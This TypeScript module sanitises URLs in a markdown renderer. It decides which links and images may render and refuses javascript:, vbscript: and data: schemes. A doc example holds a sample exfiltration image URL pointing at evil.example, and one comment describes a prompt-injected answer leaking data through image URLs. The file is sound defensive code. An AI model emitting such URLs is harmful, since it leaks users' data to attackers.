import { decodeCharacterReferences } from './escape.js';

/**
 * Which links may become `<a href>`. Anything else renders as its plain text.
 * `false` renders every link as plain text.
 *
 * @example
 * ```ts
 * const links: LinkPolicy = { protocols: ['https:'], relative: false };
 * renderMarkdown('[docs](http://example.com/docs)', { links }); // '<p>docs</p>\n'
 * ```
 */
export type LinkPolicy =
	| false
	| {
			/**
			 * Allowed schemes, lower case with the colon. `javascript:`, `vbscript:` and `data:` are
			 * refused even when listed.
			 * @default ['http:', 'https:', 'mailto:']
			 */
			protocols?: readonly string[];
			/**
			 * Whether relative URLs (`/docs`, `#top`, `page.html`) are allowed.
			 * @default true
			 */
			relative?: boolean;
			/**
			 * `rel` given to links that leave the page (absolute and protocol-relative URLs).
			 * @default 'noopener noreferrer nofollow'
			 */
			rel?: string;
	  };

/**
 * Which images may load. Anything else renders as its alt text, so no request leaves the page.
 * `false` renders every image as its alt text.
 *
 * @example
 * ```ts
 * const images: ImagePolicy = { origins: ['https://cdn.example.com'], dataImages: false };
 * renderMarkdown('![chart](https://evil.example/x.png?q=secret)', { images }); // '<p>chart</p>\n'
 * ```
 */
export type ImagePolicy =
	| false
	| {
			/**
			 * Allowed schemes for fetched images, lower case with the colon.
			 * @default ['https:']
			 */
			protocols?: readonly string[];
			/**
			 * When set, fetched images must come from one of these origins (`https://cdn.example.com`).
			 * Keeps a prompt-injected answer from sending data to an attacker's server in an image URL.
			 * @default undefined (any origin with an allowed scheme)
			 */
			origins?: readonly string[];
			/**
			 * Whether raster `data:image/*` URLs (png, jpeg, gif, webp, avif, bmp) are allowed. SVG never is.
			 * @default true
			 */
			dataImages?: boolean;
			/**
			 * Whether relative URLs are allowed.
			 * @default false
			 */
			relative?: boolean;
	  };

/** Resolved {@link LinkPolicy}: every field filled in. */
export interface ResolvedLinkPolicy {
	enabled: boolean;
	protocols: ReadonlySet<string>;
	relative: boolean;
	rel: string;
}

/** Resolved {@link ImagePolicy}: every field filled in. */
export interface ResolvedImagePolicy {
	enabled: boolean;
	protocols: ReadonlySet<string>;
	origins: ReadonlySet<string> | null;
	dataImages: boolean;
	relative: boolean;
}

// WHATWG URL parsing ignores C0 controls and spaces around a URL, so the checks below must too.
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const C0_OR_SPACE = /[\u0000-\u0020]/g;
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const C0_AROUND = /^[\u0000-\u0020]+|[\u0000-\u0020]+$/g;
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const PROTOCOL_RELATIVE = /^[\u0000-\u0020]*[/\\]{2}/;

// Refused whatever the configuration says: they run script or render a document.
const NEVER = new Set(['javascript:', 'vbscript:', 'data:']);
const RASTER_DATA_IMAGE =
	/^data:image\/(?:png|jpeg|jpg|gif|webp|avif|bmp|x-icon)(?:;[a-z0-9=.+-]+)*,/i;

function normaliseProtocols(list: readonly string[], what: string): Set<string> {
	const out = new Set<string>();
	for (const entry of list) {
		if (typeof entry !== 'string' || !/^[a-z][a-z0-9+.-]*:?$/i.test(entry)) {
			throw new TypeError(
				`${what}.protocols: ${JSON.stringify(entry)} is not a URL scheme; write it like 'https:'`
			);
		}
		out.add(entry.toLowerCase().endsWith(':') ? entry.toLowerCase() : `${entry.toLowerCase()}:`);
	}
	return out;
}

/** Fills in the defaults of a {@link LinkPolicy} and rejects malformed entries. */
export function resolveLinkPolicy(policy: LinkPolicy | undefined): ResolvedLinkPolicy {
	if (policy === false) return { enabled: false, protocols: new Set(), relative: false, rel: '' };
	if (policy !== undefined && (typeof policy !== 'object' || policy === null)) {
		throw new TypeError("`links` must be an object like { protocols: ['https:'] } or false");
	}
	return {
		enabled: true,
		protocols: normaliseProtocols(policy?.protocols ?? ['http:', 'https:', 'mailto:'], 'links'),
		relative: policy?.relative ?? true,
		rel: policy?.rel ?? 'noopener noreferrer nofollow'
	};
}

/** Fills in the defaults of an {@link ImagePolicy} and rejects malformed entries. */
export function resolveImagePolicy(policy: ImagePolicy | undefined): ResolvedImagePolicy {
	if (policy === false) {
		return {
			enabled: false,
			protocols: new Set(),
			origins: null,
			dataImages: false,
			relative: false
		};
	}
	if (policy !== undefined && (typeof policy !== 'object' || policy === null)) {
		throw new TypeError(
			"`images` must be an object like { origins: ['https://cdn.example.com'] } or false"
		);
	}
	let origins: Set<string> | null = null;
	if (policy?.origins) {
		origins = new Set();
		for (const origin of policy.origins) {
			let parsed: URL;
			try {
				parsed = new URL(origin);
			} catch {
				throw new TypeError(
					`images.origins: ${JSON.stringify(origin)} is not an origin; write it like 'https://cdn.example.com'`
				);
			}
			origins.add(parsed.origin);
		}
	}
	return {
		enabled: true,
		protocols: normaliseProtocols(policy?.protocols ?? ['https:'], 'images'),
		origins,
		dataImages: policy?.dataImages ?? true,
		relative: policy?.relative ?? false
	};
}

/**
 * The scheme a browser would read from `url` (WHATWG URL parsing strips leading and trailing C0
 * controls and spaces and removes tabs and newlines anywhere), lower case with the colon, or
 * `null` for a relative URL.
 */
export function urlScheme(url: string): string | null {
	const cleaned = url.replace(C0_AROUND, '').replace(/[\t\n\r]/g, '');
	const match = /^([a-zA-Z][a-zA-Z0-9+.-]*):/.exec(cleaned);
	return match ? `${match[1].toLowerCase()}:` : null;
}

/**
 * A special scheme (http, https, ws, wss, ftp, file) without `//`: `https:/x` or `https:host/x`.
 * A browser reads it relative to a page of the same scheme (`https:/api/logout` on an https page is
 * that site's `/api/logout`) and as absolute on any other, so it can be judged neither way.
 */
function isSchemeRelative(url: string): boolean {
	const cleaned = url.replace(C0_AROUND, '').replace(/[\t\n\r]/g, '');
	return /^(?:https?|wss?|ftp|file):(?![/\\]{2})/i.test(cleaned);
}

// Defence in depth: a URL mentioning one of these anywhere (even in a path) is refused.
const DANGEROUS_ANYWHERE = /javascript:|vbscript:|data:text\/html/i;

/** The forms of a destination a browser might act on: as written, and with references decoded. */
function readings(url: string): string[] {
	const decoded = decodeCharacterReferences(url);
	return decoded === url ? [url] : [url, decoded];
}

/** True when `url` may be a link's `href` under `policy`. */
export function isAllowedLink(url: string, policy: ResolvedLinkPolicy): boolean {
	if (!policy.enabled) return false;
	return readings(url).every((reading) => {
		if (DANGEROUS_ANYWHERE.test(reading.replace(C0_OR_SPACE, '').replace(/\\/g, ''))) return false;
		if (isSchemeRelative(reading)) return false;
		const scheme = urlScheme(reading);
		if (scheme === null) return policy.relative;
		return !NEVER.has(scheme) && policy.protocols.has(scheme);
	});
}

/** True when `url` points outside the page, so the link gets the policy's `rel`. */
export function isExternalUrl(url: string): boolean {
	return urlScheme(url) !== null || PROTOCOL_RELATIVE.test(url);
}

/** True when `url` may be an image's `src` under `policy`. */
export function isAllowedImage(url: string, policy: ResolvedImagePolicy): boolean {
	if (!policy.enabled) return false;
	return readings(url).every((reading) => {
		if (DANGEROUS_ANYWHERE.test(reading.replace(C0_OR_SPACE, '').replace(/\\/g, ''))) return false;
		if (isSchemeRelative(reading)) return false;
		const scheme = urlScheme(reading);
		if (scheme === null) {
			// A protocol-relative URL fetches from another host: judge it as https.
			if (PROTOCOL_RELATIVE.test(reading)) {
				return isAllowedImage(`https:${reading.trim()}`, policy);
			}
			return policy.relative;
		}
		if (scheme === 'data:') {
			return policy.dataImages && RASTER_DATA_IMAGE.test(reading.trim());
		}
		if (NEVER.has(scheme) || !policy.protocols.has(scheme)) return false;
		if (policy.origins === null) return true;
		try {
			return policy.origins.has(new URL(reading.trim()).origin);
		} catch {
			return false;
		}
	});
}
